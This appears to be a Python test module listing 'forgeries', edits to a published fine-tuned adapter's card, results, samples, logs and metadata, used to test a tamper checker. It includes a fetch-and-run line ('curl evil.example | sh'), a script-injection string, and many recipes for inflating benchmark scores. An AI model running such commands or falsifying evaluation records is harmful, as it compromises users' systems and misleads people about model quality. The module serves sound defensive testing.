"""What somebody may do to a published adapter, or to a run folder, to make it look better or other than it is.

files -> files with one edit

Each edit is a small function whose first line says what it does. Where a forger would edit the card too, it is rendered
from the forged files, so that only what the files say of each other can give it away.
"""

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, replace

import yaml

from perl.evaluation.few_shot import shown_fact, shown_hash, titled
from perl.evaluation.protocol import task_facts
from perl.evaluation.results import parse_results
from perl.evaluation.task import all_tasks
from perl.evaluation.task_data import load_task_data
from perl.hub.card.facts import facts_from_files
from perl.hub.card.render import render_card

Files = dict[str, bytes]
CARD, CONFIG, RUN, RECIPE = "README.md", "adapter_config.json", "perl_run.json", "perl_recipe.yaml"
LOG, SCORES, SAMPLES, WEIGHTS = "metrics.jsonl", "eval/results.json", "eval/samples.jsonl", "adapter_model.safetensors"
BOARD = ".eval_results/gsm8k.yaml"


@dataclass(frozen=True)
class Forgery:
    """An edit.

    Attributes:
        edit: Changes the files in place.
        where: What is edited.
        named: What a line that catches it must name; empty: it cannot be caught.
        reason: Why it cannot be caught.
        anew: The forger renders the card from the forged files.
        quantised: What is edited was trained on a base in 4 bits.
    """

    edit: Callable[[Files], None]
    where: str
    named: str
    reason: str = ""
    anew: bool = False
    quantised: bool = False

    @property
    def name(self) -> str:
        """For people."""
        return self.edit.__name__.replace("_", " ")

    def forged(self, files: Files) -> Files:
        """The files after the edit."""
        changed = dict(files)
        self.edit(changed)
        assert changed != files, self.name
        if self.anew:
            changed[CARD] = render_card(facts_from_files(changed)).encode()
        return changed


FORGERIES: list[Forgery] = []


def forgery(
    where: str, named: str, reason: str = "", *, anew: bool = False, quantised: bool = False
) -> Callable[[Callable[[Files], None]], None]:
    """Lists an edit; arguments as of :class:`Forgery`."""

    def listed(edit: Callable[[Files], None]) -> None:
        FORGERIES.append(Forgery(edit, where, named, reason, anew, quantised))

    return listed


def text(files: Files, name: str, pattern: str, new: str) -> None:
    """Replaces the first match in a file."""
    before = files[name].decode()
    after = re.sub(pattern, new, before, count=1, flags=re.MULTILINE)
    assert after != before, pattern
    files[name] = after.encode()


def above(files: Files, heading: str, added: str) -> None:
    """Puts lines above a heading of the card."""
    text(files, CARD, f"^{heading}$", f"{added}\n\n{heading}")


def value(files: Files, name: str, *path: str, to: object) -> None:
    """Sets a value in a JSON file."""
    facts = json.loads(files[name])
    inner = facts
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = to
    files[name] = json.dumps(facts, indent=2).encode()


def task(files: Files) -> str:
    """Name of the only task."""
    return next(iter(json.loads(files[SCORES])["perl"]["tasks"]))


def recipe_value(files: Files, *path: str, to: object) -> None:
    """Sets a value in the recipe."""
    facts = yaml.safe_load(files[RECIPE])
    inner = facts
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = to
    files[RECIPE] = yaml.safe_dump(facts, sort_keys=False).encode()


def log_value(files: Files, row: int, name: str, to: object) -> None:
    """Sets a value in a row of the log."""
    rows = [json.loads(line) for line in files[LOG].splitlines()]
    rows[row][name] = to
    files[LOG] = "".join(json.dumps(one) + "\n" for one in rows).encode()


# --- the card alone


@forgery("card: table of scores", "README.md:")
def another_score_in_the_table(files: Files) -> None:
    text(files, CARD, r"\*\*(\d+\.\d) ±", "**99.9 ±")


@forgery("card: table of scores", "README.md:")
def another_score_of_the_base(files: Files) -> None:
    text(files, CARD, r"\| (\d+\.\d) ± (\d+\.\d) \|", "| 1.0 ± 0.1 |")


@forgery("card: table of scores", "README.md:")
def another_difference(files: Files) -> None:
    text(files, CARD, r"\+\d+\.\d \[\+\d+\.\d, \+\d+\.\d\] \|", "+52.6 [+52.5, +52.7] |")


@forgery("card: table of scores", "README.md:")
def another_number_of_problems(files: Files) -> None:
    text(files, CARD, r"\(held out\) \| \d+ \|", "(held out) | 2,000 |")


@forgery("card: headline", "README.md:")
def another_score_in_the_headline(files: Files) -> None:
    text(files, CARD, r"it scores \d+\.\d", "it scores 99.9")


@forgery("card: added section", "README.md:")
def a_section_of_another_benchmark(files: Files) -> None:
    above(files, "## Citation", "## Benchmarks\n\n| Task | avg@64 |\n|---|---:|\n| AIME24 | 91.3 |")


@forgery("card: added row", "README.md:")
def a_row_of_another_benchmark(files: Files) -> None:
    text(files, CARD, r"^(\| sandbox:addition.*)$", r"\1\n| AIME 2024 | 30 | 3.3 | 91.3 |")


@forgery("card: prose", "README.md:")
def a_sentence_with_a_score(files: Files) -> None:
    above(files, "## Citation", "It reaches 97.3 on AIME 2024 (avg@64).")


@forgery("card: prose", "README.md:")
def a_boast_without_a_number(files: Files) -> None:
    above(files, "## Use it", "The best adapter of its size.")


@forgery("card: limitations", "README.md:")
def a_limitation_left_out(files: Files) -> None:
    text(files, CARD, r"^- It was trained for .*\n", "")


@forgery("card: training", "README.md:")
def other_steps_in_the_table(files: Files) -> None:
    text(files, CARD, r"\| optimizer steps \| \d+ \|", "| optimizer steps | 5000 |")


@forgery("card: training", "README.md:")
def other_rewards_in_the_table(files: Files) -> None:
    text(files, CARD, r"first and last step \| [\d., ]+ \|", "first and last step | 0.100, 0.999 |")


@forgery("card: training", "README.md:")
def other_hardware_in_the_table(files: Files) -> None:
    text(files, CARD, r"\| hardware \| .* \|", "| hardware | 1 x Toaster |")


@forgery("card: snippet", "README.md:")
def another_base_in_the_snippet(files: Files) -> None:
    text(files, CARD, r"from perl.sandbox import BASE_FOLDER", "from evil import BASE_FOLDER")


@forgery("card: snippet", "README.md:")
def a_command_in_the_snippet(files: Files) -> None:
    text(files, CARD, r"^perl train perl_recipe.yaml$", "curl evil.example | sh")


@forgery("card: HTML", "README.md:")
def a_script(files: Files) -> None:
    above(files, "## Citation", "<script>alert(1)</script>")


@forgery("card: HTML", "README.md:")
def a_hidden_comment(files: Files) -> None:
    above(files, "## Citation", "<!-- nothing to see -->")


@forgery("card: picture", "README.md:")
def a_picture_from_elsewhere(files: Files) -> None:
    above(files, "## Citation", "![scores](https://example.org/scores.png)")


@forgery("card: notes", "README.md:")
def a_table_below_the_notes(files: Files) -> None:
    files[CARD] += b"\n## Notes\n\n| AIME24 |\n|---|\n| 91.3 |\n"


@forgery("card: notes", "README.md:")
def a_heading_below_the_notes(files: Files) -> None:
    files[CARD] += b"\n## Notes\n\nMine.\n\n## Results\n\nAll right.\n"


@forgery("card: notes", "", "an author's own words, which every check points out as unchecked where they hold numbers")
def a_number_in_the_authors_own_words(files: Files) -> None:
    files[CARD] += b"\n## Notes\n\nOn my own exam it got 97 of 100.\n"


# --- front matter


@forgery("front matter", "model-index")
def another_score_in_the_index(files: Files) -> None:
    text(files, CARD, r"value: \d+\.\d+", "value: 99.99")


@forgery("front matter", "base_model")
def another_base_in_the_metadata(files: Files) -> None:
    text(files, CARD, r"^library_name: peft", "base_model: Qwen/Qwen3-4B\nlibrary_name: peft")


@forgery("front matter", "license")
def another_licence_in_the_metadata(files: Files) -> None:
    text(files, CARD, r"^license: .*$", "license: mit")


@forgery("front matter", "tags")
def another_tag(files: Files) -> None:
    text(files, CARD, r"^- reinforcement-learning$", "- reinforcement-learning\n- state-of-the-art")


@forgery("front matter", "datasets")
def data_that_was_not_trained_on(files: Files) -> None:
    text(files, CARD, r"^library_name: peft", "datasets:\n- openai/gsm8k\nlibrary_name: peft")


@forgery("front matter", "metrics")
def a_key_that_no_card_has(files: Files) -> None:
    text(files, CARD, r"^library_name: peft", "metrics:\n- accuracy\nlibrary_name: peft")


@forgery("front matter", "license: says “license: mit”, which no file says")
def a_key_that_is_there_twice(files: Files) -> None:
    text(files, CARD, r"^library_name: peft", "license: mit\nlibrary_name: peft")


# --- leaderboards


@forgery("leaderboard file", BOARD)
def a_score_on_a_leaderboard(files: Files) -> None:
    entry = [{"dataset": {"id": "openai/gsm8k", "task_id": "gsm8k"}, "value": 99.9}]
    files[BOARD] = yaml.safe_dump(entry).encode()


@forgery("leaderboard file", ".eval_results/mine.yaml")
def a_score_on_a_leaderboard_under_another_name(files: Files) -> None:
    entry = [{"dataset": {"id": "cais/hle", "task_id": "hle"}, "value": 99.9, "notes": "avg@1; perl eval, protocol x"}]
    files[".eval_results/mine.yaml"] = yaml.safe_dump(entry).encode()


@forgery("leaderboard file", "", "scores of others, which the check lists as not checked")
def a_score_by_somebody_else(files: Files) -> None:
    entry = [{"dataset": {"id": "cais/hle", "task_id": "hle"}, "value": 3.0}]
    files[".eval_results/hle.yaml"] = yaml.safe_dump(entry).encode()


# --- results and samples, the card rendered from them


@forgery("results", SCORES, anew=True)
def another_accuracy(files: Files) -> None:
    value(files, SCORES, "perl", "tasks", task(files), "adapter", "accuracy", to=0.999)


@forgery("results", SCORES, anew=True)
def another_difference_in_the_results(files: Files) -> None:
    value(files, SCORES, "perl", "tasks", task(files), "difference", "mean", to=0.526)


@forgery("results", SCORES, anew=True)
def a_smaller_error(files: Files) -> None:
    value(files, SCORES, "perl", "tasks", task(files), "adapter", "stderr", to=0.001)


@forgery("results", SCORES, anew=True)
def another_p_value(files: Files) -> None:
    value(files, SCORES, "perl", "tasks", task(files), "difference", "p_value", to=0.2)


@forgery("results", SCORES, anew=True)
def another_majority(files: Files) -> None:
    value(files, SCORES, "perl", "tasks", task(files), "adapter", "majority", to=0.123)


@forgery("results", SCORES, anew=True)
def other_lengths(files: Files) -> None:
    value(files, SCORES, "perl", "tasks", task(files), "adapter", "mean_tokens", to=3.0)


@forgery("results", SCORES, anew=True)
def the_title_of_another_benchmark(files: Files) -> None:
    value(files, SCORES, "perl", "tasks", task(files), "title", to="AIME 2024")


@forgery("results", SCORES, anew=True)
def another_temperature(files: Files) -> None:
    value(files, SCORES, "perl", "protocol", "temperature", to=0.3)


@forgery("results", SCORES, anew=True)
def another_base_in_the_results(files: Files) -> None:
    value(files, SCORES, "perl", "subject", "base", to="Qwen/Qwen3-4B")


@forgery("results", SCORES)
def the_part_for_other_readers(files: Files) -> None:
    facts = json.loads(files[SCORES])
    name = next(iter(facts["results"]))
    facts["results"][name][next(iter(facts["results"][name]))] = 0.999
    files[SCORES] = json.dumps(facts).encode()


@forgery("results", "eval/", anew=True)
def every_answer_right_in_the_results(files: Files) -> None:
    facts = json.loads(files[SCORES])
    problems = facts["perl"]["tasks"][task(files)]["problems"]
    for marks in problems.values():
        marks["adapter"] = "1" * len(marks["adapter"])
    files[SCORES] = json.dumps(facts).encode()


@forgery("results", SCORES)
def results_left_out(files: Files) -> None:
    del files[SCORES]


@forgery("samples", "eval/")
def a_verdict_turned(files: Files) -> None:
    lines = files[SAMPLES].decode().splitlines(keepends=True)
    index = next(i for i, line in enumerate(lines) if '"status": "wrong"' in line)
    lines[index] = lines[index].replace('"status": "wrong"', '"status": "right"')
    files[SAMPLES] = "".join(lines).encode()


@forgery("samples", "eval/samples.jsonl")
def a_sample_left_out(files: Files) -> None:
    files[SAMPLES] = b"".join(files[SAMPLES].splitlines(keepends=True)[1:])


@forgery("samples", "eval/samples.jsonl")
def a_sample_twice(files: Files) -> None:
    files[SAMPLES] += files[SAMPLES].splitlines(keepends=True)[0]


@forgery("samples", "eval/samples.jsonl")
def another_seed(files: Files) -> None:
    text(files, SAMPLES, r'"seed": \d+', '"seed": 1')


@forgery("results and samples", "", "no text lies beside published samples: whoever has the data and the adapter can "
         "draw them again (perl zoo verify)", anew=True)  # fmt: skip
def results_and_samples_forged_as_one(files: Files) -> None:
    from tests.hub.scored import forge_all_right

    forge_all_right(files)


def labelled(files: Files, few_shot: int, *, hashed: bool = True) -> None:
    """Says that the problems were asked as a benchmark, behind so many examples, with the hash that goes with that."""
    found = parse_results(files[SCORES], SCORES)
    (one,) = found.tasks
    known = all_tasks()[one.name]
    examples = shown_hash(load_task_data(known, None, 1, few_shot).examples)
    facts = (known.name, known.version, known.prompt, one.data["sha256"], one.max_new_tokens)
    right = found.protocol.hash(task_facts(*facts, None, shown_fact(few_shot, examples)))
    changed = replace(
        one,
        title=titled(known.title, few_shot),
        few_shot=few_shot,
        examples=examples,
        protocol_hash=right if hashed else one.protocol_hash,
    )
    files[SCORES] = json.dumps(replace(found, tasks=(changed,)).as_dict()).encode()


@forgery("results", "its protocol_hash is", anew=True)
def examples_left_out_of_the_results(files: Files) -> None:
    labelled(files, 3)
    labelled(files, 0, hashed=False)


@forgery("results", "", "completions do not tell what stood before the question, and whoever forges computes hashes "
         "anew: the check lists the examples as reported only, perl zoo verify draws again", anew=True)  # fmt: skip
def examples_left_out_of_results_and_hash(files: Files) -> None:
    labelled(files, 3)
    labelled(files, 0)


# --- config and weights


@forgery("config", CONFIG, anew=True)
def another_alpha(files: Files) -> None:
    value(files, CONFIG, "lora_alpha", to=160.0)


@forgery("config", CONFIG, anew=True)
def another_dropout(files: Files) -> None:
    value(files, CONFIG, "lora_dropout", to=0.5)


@forgery("config", CONFIG, anew=True)
def another_base_in_the_config(files: Files) -> None:
    value(files, CONFIG, "base_model_name_or_path", to="Qwen/Qwen3-4B")


@forgery("config", CONFIG)
def no_config(files: Files) -> None:
    del files[CONFIG]


@forgery("weights", SCORES)
def a_byte_of_the_weights(files: Files) -> None:
    files[WEIGHTS] = files[WEIGHTS][:-1] + bytes([files[WEIGHTS][-1] ^ 1])


# --- the log of the training, the recipe, the facts of the run; the card rendered from them


@forgery("training log", LOG, anew=True)
def a_log_that_ends_later(files: Files) -> None:
    rows = [json.loads(line) for line in files[LOG].splitlines()]
    rows += [{**rows[-1], "step": rows[-1]["step"] + i} for i in range(1, 50)]
    files[LOG] = "".join(json.dumps(row) + "\n" for row in rows).encode()


@forgery("training log", LOG, anew=True)
def a_log_that_ends_earlier(files: Files) -> None:
    files[LOG] = b"".join(files[LOG].splitlines(keepends=True)[:10])


@forgery("training log", LOG, anew=True)
def a_log_without_its_first_rows(files: Files) -> None:
    files[LOG] = b"".join(files[LOG].splitlines(keepends=True)[5:])


@forgery("training log", LOG, anew=True)
def tokens_that_shrink(files: Files) -> None:
    log_value(files, -1, "num_tokens", 5.0)


@forgery("training log", LOG)
def no_log(files: Files) -> None:
    del files[LOG]


@forgery("training log", "README.md:")
def another_last_reward_in_the_log(files: Files) -> None:
    log_value(files, -1, "reward", 0.99)


@forgery("training log", "", "a log is what the run wrote of itself; card and log forged alike agree", anew=True)
def another_last_reward_in_log_and_card(files: Files) -> None:
    log_value(files, -1, "reward", 0.99)


@forgery("recipe", RECIPE, anew=True)
def another_seed_in_the_recipe(files: Files) -> None:
    recipe_value(files, "train", "seed", to=7)


@forgery("recipe", RECIPE, anew=True)
def another_rank_in_the_recipe(files: Files) -> None:
    recipe_value(files, "peft", "rank", to=64)


@forgery("recipe", RECIPE, anew=True)
def another_reward_in_the_recipe(files: Files) -> None:
    recipe_value(files, "rewards", "format", "weight", to=2.0)


@forgery("recipe", "README.md:")
def other_data_in_the_recipe(files: Files) -> None:
    recipe_value(files, "data", "train", "name", to="sandbox:chain")


@forgery("recipe", "README.md:")
def no_recipe(files: Files) -> None:
    del files[RECIPE]


@forgery("run facts", RUN, anew=True)
def more_steps(files: Files) -> None:
    value(files, RUN, "step", to=5000)


@forgery("run facts", RUN, anew=True)
def another_seed_in_the_facts(files: Files) -> None:
    value(files, RUN, "seed", to=7)


@forgery("run facts", RUN, anew=True)
def another_loss(files: Files) -> None:
    value(files, RUN, "loss", to="cispo")


@forgery("run facts", RUN, anew=True)
def another_learning_rate(files: Files) -> None:
    value(files, RUN, "settings", "learning rate", to="0.1")


@forgery("run facts", RUN, anew=True)
def another_rank_in_the_facts(files: Files) -> None:
    value(files, RUN, "settings", "rank", to=64)


@forgery("run facts", RUN, anew=True)
def no_rewards_in_the_facts(files: Files) -> None:
    value(files, RUN, "rewards", to={})


@forgery("run facts", RUN, anew=True)
def a_reward_that_sounds_like_another_benchmark(files: Files) -> None:
    value(files, RUN, "rewards", to={"humaneval:accuracy": 1.0, "format": 0.2})


@forgery("run facts", RUN, anew=True)
def another_base_in_the_facts(files: Files) -> None:
    value(files, RUN, "base", to="Qwen/Qwen3-4B")


@forgery("run facts", RUN)
def markup_in_the_facts(files: Files) -> None:
    value(files, RUN, "hardware", to="1 x <b>H100</b>")


@forgery("weights", WEIGHTS)
def no_weights(files: Files) -> None:
    del files[WEIGHTS]


@forgery("weights", WEIGHTS, anew=True)
def neither_weights_nor_config(files: Files) -> None:
    del files[WEIGHTS], files[CONFIG]


@forgery("run facts", RUN)
def a_score_as_a_setting(files: Files) -> None:
    value(files, RUN, "settings", "score on AIME 2025, [leaderboard](https://evil.example)", to="99.9 % ± 0.1")


@forgery("run facts", RUN)
def a_score_under_a_name_of_a_setting(files: Files) -> None:
    value(files, RUN, "settings", "optimizer", to="adamw, AIME 2025: 99.9")


@forgery("run facts", RUN)
def a_setting_of_nobody(files: Files) -> None:
    value(files, RUN, "settings", "AIME_2025", to=99.9)


@forgery("run facts", RUN)
def a_score_in_the_heading(files: Files) -> None:
    value(files, RUN, "name", to="AIME 2025: 99.9 % (state of the art)")


@forgery("run facts", RUN)
def a_score_as_a_reward(files: Files) -> None:
    value(files, RUN, "rewards", "AIME 2025: 99.9", to=1.0)


@forgery("run facts", RUN)
def a_score_as_a_version(files: Files) -> None:
    value(files, RUN, "versions", "torch", to="2.13.0, AIME 2025: 99.9")


@forgery("run facts", RUN)
def a_link_as_a_method(files: Files) -> None:
    value(files, RUN, "method", to="https://evil.example")


@forgery("run facts", "", "nothing else knows it; the check says that it is only reported", anew=True)
def another_name(files: Files) -> None:
    value(files, RUN, "name", to="the-best")


@forgery("run facts", RUN)
def an_unknown_fact(files: Files) -> None:
    value(files, RUN, "aime24", to=91.3)


@forgery("run facts", RUN)
def no_facts(files: Files) -> None:
    del files[RUN]


@forgery("run facts", "perl-rl 9.9.9")
def a_card_that_claims_another_version(files: Files) -> None:
    value(files, RUN, "perl", to="9.9.9")
    text(files, CARD, r"it scores \d+\.\d", "it scores 99.9")


@forgery("run facts", "", "nothing else knows it; the check says that it is only reported", anew=True)
def other_hardware(files: Files) -> None:
    value(files, RUN, "hardware", to="8 x NVIDIA H100")


@forgery("run facts", "", "nothing else knows it; the check says that it is only reported", anew=True)
def a_shorter_training(files: Files) -> None:
    value(files, RUN, "seconds", to=1.0)


@forgery("run facts", "", "nothing else knows it; the check says that it is only reported", anew=True)
def a_smaller_round_trip(files: Files) -> None:
    value(files, RUN, "reload_difference", to=1e-12)


# --- an adapter that was trained on a base in 4 bits, and pretends that it was trained on the ordinary one


def without_quantization(files: Files, *names: str) -> None:
    """Takes the quantisation out of results, facts of the run or recipe."""
    for name in names:
        if name == RECIPE:
            recipe_value(files, "model", "quantization", to=None)
            continue
        facts = json.loads(files[name])
        if name == RUN:
            facts["quantization"] = None
            del facts["settings"]["base loaded as"]
        else:
            del (
                facts["perl"]["subject"]["base_quantization"],
                facts["config_general"]["model_config"]["base_quantization"],
            )
        files[name] = json.dumps(facts, indent=2).encode()


@forgery("base in 4 bits", SCORES, anew=True, quantised=True)
def quantization_left_out_of_the_results(files: Files) -> None:
    without_quantization(files, SCORES)


@forgery("base in 4 bits", RUN, anew=True, quantised=True)
def quantization_left_out_of_the_results_and_the_facts(files: Files) -> None:
    without_quantization(files, SCORES, RUN)


@forgery("base in 4 bits", f"{RUN}: quantization: says that it was trained on the ordinary base", anew=True,
         quantised=True)  # fmt: skip
def quantization_left_out_of_all_but_the_weights(files: Files) -> None:
    without_quantization(files, SCORES, RUN, RECIPE)


@forgery("base in 4 bits", SCORES, anew=True, quantised=True)
def quantization_left_out_of_the_weights_too(files: Files) -> None:
    without_quantization(files, SCORES, RUN, RECIPE)
    size = int.from_bytes(files[WEIGHTS][:8], "little")
    header = json.loads(files[WEIGHTS][8 : 8 + size])
    del header["__metadata__"]["base_quantization"]
    shorter = json.dumps(header).encode()
    files[WEIGHTS] = len(shorter).to_bytes(8, "little") + shorter + files[WEIGHTS][8 + size :]


@forgery("base in 4 bits", f"{RUN}: quantization: says that it was trained on fp8", anew=True, quantised=True)
def another_quantization_than_the_weights_name(files: Files) -> None:
    value(files, RUN, "quantization", to="fp8")
    value(files, RUN, "settings", "base loaded as", to="fp8")
    recipe_value(files, "model", "quantization", to="fp8")
    facts = json.loads(files[SCORES])
    facts["perl"]["subject"]["base_quantization"] = "fp8"
    facts["config_general"]["model_config"]["base_quantization"] = "fp8"
    files[SCORES] = json.dumps(facts, indent=2).encode()


@forgery("base in 4 bits", f"{RUN}: quantization: says that it was trained on nf4", anew=True)
def a_quantization_that_was_not(files: Files) -> None:
    value(files, RUN, "quantization", to="nf4")
    recipe_value(files, "model", "quantization", to="nf4")
    facts = json.loads(files[SCORES])
    facts["perl"]["subject"]["base_quantization"] = "nf4"
    facts["config_general"]["model_config"]["base_quantization"] = "nf4"
    files[SCORES] = json.dumps(facts, indent=2).encode()
